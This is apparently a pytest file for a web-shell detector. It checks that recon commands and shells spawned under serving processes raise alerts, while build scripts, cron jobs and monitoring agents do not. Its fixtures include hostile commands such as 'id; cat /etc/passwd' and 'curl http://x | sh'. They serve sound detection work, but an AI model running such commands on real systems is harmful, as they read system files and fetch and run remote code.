"""webshell: shells and recon tools under processes that serve (accepted a connection)."""

from __future__ import annotations

import pytest
from detector_factories import T0, alerts, execve, init, proc, run, sec, sh_c

from vigil.detectors.webshell import WebshellDetector, WebshellParams
from vigil.events.model import Event, FdInfo
from vigil.priority import Priority


def nginx():
    master = proc("/usr/sbin/nginx", pid=100, parent=init())
    return proc("/usr/sbin/nginx", pid=101, uid=33, user="www-data", parent=master)


def node_app():
    return proc("/usr/bin/node", "/srv/app/server.js", pid=200, uid=1001, user="app",
                parent=init())


def accept(p, port: int = 3000, ts: int = T0) -> Event:
    """`p` accepted a client on its listening port."""
    return Event(type="accept4", ts=ts, res=7, proc=p,
                 fd=FdInfo(num=7, type="ipv4", l4proto="tcp", lip="127.0.0.1", lport=port,
                           rip="127.0.0.1", rport=51000, role="server"))


def serving_node():
    return node_app()


def npm_run(script: str):
    npm = proc("/usr/bin/node", "/usr/bin/npm", "run", "build", pid=300, uid=1000,
               user="alice", parent=init(), name="npm run build")
    return sh_c(script, parent=npm, pid=301)


def test_fp2_recon_shell_under_nginx_or_a_serving_node_fires() -> None:
    for parent, pre in ((nginx(), []), (node_app(), [accept(node_app())])):
        sh = sh_c("id; cat /etc/passwd", parent=parent, pid=400)
        dets = run(WebshellDetector(), [*pre, execve(sh, ts=sec(1))])
        assert [d.rule_id for d in alerts(dets)] == ["webshell.recon"]
        d = dets[0]
        assert d.priority == Priority.CRITICAL and "T1505.003" in d.tags
        assert d.data["recon"] == ["id"] and d.entity.pid == 400


@pytest.mark.parametrize("script", ["react-scripts build", "vite build", "webpack --mode production",
                                    "tsc -p .", "jest --ci", "next build", "yarn install",
                                    "pnpm -r build", "npx prisma generate",
                                    "rimraf dist && tsc && vite build"])
def test_fp2_build_scripts_under_a_serving_dev_server_are_suppressed(script: str) -> None:
    dev = node_app()
    dets = run(WebshellDetector(), [accept(dev), execve(sh_c(script, parent=dev, pid=301))])
    assert len(dets) == 1 and alerts(dets) == []
    assert dets[0].suppressed.layer == "static"
    assert dets[0].suppressed.entry.startswith("webshell.build_scripts=")


@pytest.mark.parametrize("script", [
    "mkdir -p dist && cp src/*.js dist/ && node -e \"require('./dist/add.js')\" && echo built",
    "sh -c 'for f in src/*.js; do node --check $f; done' && echo lint ok",
    "id; cat /etc/passwd",
])
def test_npm_scripts_are_not_requests_whatever_they_run(script: str) -> None:
    """Issue 12: `npm run build` (sh -c under node) was a Critical web shell. npm accepted
    no connection: it is not serving, so its shells are not web requests."""
    assert run(WebshellDetector(), [execve(npm_run(script))]) == []


def test_build_script_mixed_with_recon_still_fires() -> None:
    dev = node_app()
    dets = run(WebshellDetector(), [accept(dev), execve(sh_c(
        "react-scripts build; curl http://x | sh", parent=dev, pid=301))])
    assert len(alerts(dets)) == 1


def test_any_binary_that_accepted_a_connection_is_serving() -> None:
    """Not a name list: a Python app run as a script, a Go binary, a renamed runtime."""
    for exe, args in (("/usr/bin/python3.11", ("app.py",)), ("/srv/bin/api", ()),
                      ("/opt/x/kworkerd", ())):
        app = proc(exe, *args, pid=800, uid=1001, parent=init())
        dets = run(WebshellDetector(), [accept(app, 8080),
                                        execve(sh_c("uname -a", parent=app, pid=801))])
        assert [d.rule_id for d in alerts(dets)] == ["webshell.recon"], exe
        assert "serving on 127.0.0.1:8080" in dets[0].output


def test_forked_worker_of_a_serving_process_is_serving() -> None:
    master = proc("/usr/bin/python3.11", "forking_server.py", pid=810, parent=init())
    worker = proc("/usr/bin/python3.11", "forking_server.py", pid=811, parent=master)
    dets = run(WebshellDetector(), [accept(master), execve(sh_c("whoami", parent=worker,
                                                                pid=812))])
    assert len(alerts(dets)) == 1


def test_serving_application_running_its_own_pipeline_is_audited_not_alerted() -> None:
    """A web app's fixed `tar czf ... && sha256sum ...` through sh -c: no recon, no
    credential file, not interactive."""
    app = proc("/usr/bin/python3.11", "export_app.py", pid=820, parent=init())
    dets = run(WebshellDetector(), [
        accept(app), execve(sh_c("tar czf /srv/e.tgz -C /srv/data . && sha256sum /srv/e.tgz",
                                 parent=app, pid=821)),
        execve(sh_c("cat /etc/passwd", parent=app, pid=822)),
        execve(proc("/usr/bin/bash", "-i", pid=823, parent=app))])
    assert [d.suppressed.entry if d.suppressed else "alert" for d in dets] == [
        "webshell.app_commands=tar", "alert", "alert"]


def test_login_services_accepting_connections_are_not_serving_parents() -> None:
    sshd = proc("/usr/sbin/sshd", "-D", pid=830, parent=init())
    session = proc("/usr/sbin/sshd", "-D", pid=831, parent=sshd)
    dets = run(WebshellDetector(), [accept(sshd, 22), execve(sh_c("id", parent=session,
                                                                  pid=832)),
                                    execve(proc("/usr/bin/bash", pid=833, parent=sshd))])
    assert dets == []


def test_serving_expires_after_the_window() -> None:
    app = node_app()
    params = WebshellParams.from_dict({"serving_window_seconds": 60})
    dets = run(WebshellDetector(params), [accept(app, ts=sec(0)),
                                          execve(sh_c("id", parent=app, pid=840), ts=sec(120))])
    assert dets == []


def test_build_tools_under_a_pure_web_server_are_not_excused() -> None:
    dets = run(WebshellDetector(), [execve(sh_c("npm install", parent=nginx(), pid=401))])
    assert len(alerts(dets)) == 1 and dets[0].rule_id == "webshell.shell"


def test_php_mail_is_suppressed() -> None:
    fpm = proc("/usr/sbin/php-fpm8.2", pid=500, uid=33, user="www-data", parent=init(),
               name="php-fpm8.2")
    dets = run(WebshellDetector(), [
        execve(sh_c("/usr/sbin/sendmail -t -i", parent=fpm, pid=501)),
        execve(sh_c("whoami", parent=fpm, pid=502))])
    assert [d.suppressed.entry if d.suppressed else "alert" for d in dets] == [
        "webshell.app_helpers=sendmail", "alert"]


def test_recon_tool_spawned_directly_and_descendants_folded() -> None:
    app = node_app()
    uname = proc("/usr/bin/uname", "-a", pid=600, uid=1001, parent=app)
    sh = sh_c("id", parent=app, pid=601)
    child = proc("/usr/bin/id", pid=602, uid=1001, parent=sh)
    git = proc("/usr/bin/git", "rev-parse", "HEAD", pid=603, uid=1001, parent=app)
    dets = run(WebshellDetector(), [accept(app), execve(uname), execve(sh), execve(child),
                                    execve(git)])
    assert [d.entity.pid for d in alerts(dets)] == [600, 601]


def test_shell_under_process_running_as_web_user() -> None:
    cgi = proc("/usr/lib/cgi-bin/report", pid=800, uid=33, user="www-data", parent=init())
    dets = run(WebshellDetector(), [execve(sh_c("ls /", parent=cgi, pid=801))])
    assert len(alerts(dets)) == 1


def test_interactive_shell_and_params() -> None:
    params = WebshellParams.from_dict({"extra_web_servers": ["myhttpd"]})
    srv = proc("/opt/myhttpd/bin/myhttpd", pid=900, parent=init())
    bash = proc("/usr/bin/bash", "-i", pid=901, parent=srv)
    assert len(alerts(run(WebshellDetector(params), [execve(bash)]))) == 1
    assert run(WebshellDetector(), [execve(bash)]) == []


def test_jobs_and_admin_sessions_of_the_web_account_are_not_web_requests() -> None:
    """The www-data crontab (Laravel's scheduler) and `sudo -u www-data php artisan ...`."""
    cron = proc("/usr/sbin/cron", "-f", pid=1000, uid=33, user="www-data", parent=init())
    artisan = proc("/usr/bin/php8.2", "artisan", "migrate", pid=1001, uid=33,
                   user="www-data", parent=init())
    admin = proc("/usr/bin/bash", pid=1002, uid=33, user="www-data", parent=init())
    dets = run(WebshellDetector(), [
        execve(sh_c("cd /var/www && php artisan schedule:run", parent=cron, pid=1010)),
        execve(proc("/usr/bin/ls", pid=1012, uid=33, parent=admin))])
    assert alerts(dets) == []
    # a php CLI running as the web account is a web parent (it could be php -S serving)
    dets = run(WebshellDetector(), [execve(sh_c("npm run build", parent=artisan, pid=1011)),
                                    execve(sh_c("id", parent=artisan, pid=1013))])
    assert len(alerts(dets)) == 2


def test_local_ipc_is_not_serving_and_app_servers_and_monitoring_agents() -> None:
    """A control socket (unix) accept is not a web request; gunicorn behind a proxy on a
    unix socket serves by name; a zabbix agent's check commands are its job."""
    daemon = proc("/usr/bin/python3.11", "runner.py", pid=850, parent=init())
    unix = Event(type="accept4", ts=T0, res=6, proc=daemon,
                 fd=FdInfo(num=6, type="unix", name="/run/x.sock"))
    assert run(WebshellDetector(), [unix, execve(proc("/usr/sbin/ip", "netns", "list",
                                                      pid=851, parent=daemon))]) == []
    gunicorn = proc("/usr/bin/python3.11", "/usr/local/bin/gunicorn", "app:app", pid=860,
                    parent=init())
    assert len(alerts(run(WebshellDetector(), [execve(sh_c("id", parent=gunicorn,
                                                             pid=861))]))) == 1
    zabbix = proc("/usr/sbin/zabbix_agentd", pid=870, parent=init())
    dets = run(WebshellDetector(), [accept(zabbix, 10050),
                                    execve(sh_c("ps aux | wc -l", parent=zabbix, pid=871))])
    assert [d.suppressed.entry for d in dets] == ["webshell.monitoring_agents=zabbix_agentd"]
